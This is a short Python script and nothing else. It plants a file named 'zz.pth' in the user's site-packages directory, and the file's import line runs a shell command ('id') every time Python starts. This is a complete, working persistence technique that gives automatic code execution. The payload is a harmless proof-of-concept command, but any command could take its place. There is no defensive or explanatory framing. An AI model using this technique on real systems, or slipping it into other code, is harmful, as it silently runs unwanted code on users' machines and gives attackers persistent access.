import site, os
target = os.path.join(site.getusersitepackages(), "zz.pth")
with open(target, "w") as handle:
    handle.write("import os; os.system('id')\n")
